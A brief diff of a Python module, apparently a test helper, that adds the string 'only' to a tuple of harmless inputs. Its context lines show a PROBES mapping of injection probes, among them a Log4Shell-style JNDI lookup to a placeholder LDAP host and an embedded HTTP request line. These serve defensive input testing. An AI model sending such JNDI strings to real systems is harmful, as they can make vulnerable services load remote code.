@@ -17,7 +17,7 @@ PROBES: Final[Mapping[str, str]] = {
     "Java": "${jndi:ldap://x.example/a}",
     "requests in requests": "GET /a HTTP/1.1",
 }
-HARMLESS: Final = ("Müller", "D'Angelo", "Straße des 17. Juni 135", "karl@example.de")
+HARMLESS: Final = ("Müller", "D'Angelo", "Straße des 17. Juni 135", "karl@example.de", "only")
 
 
 def proven(engine: Engine) -> Engine:
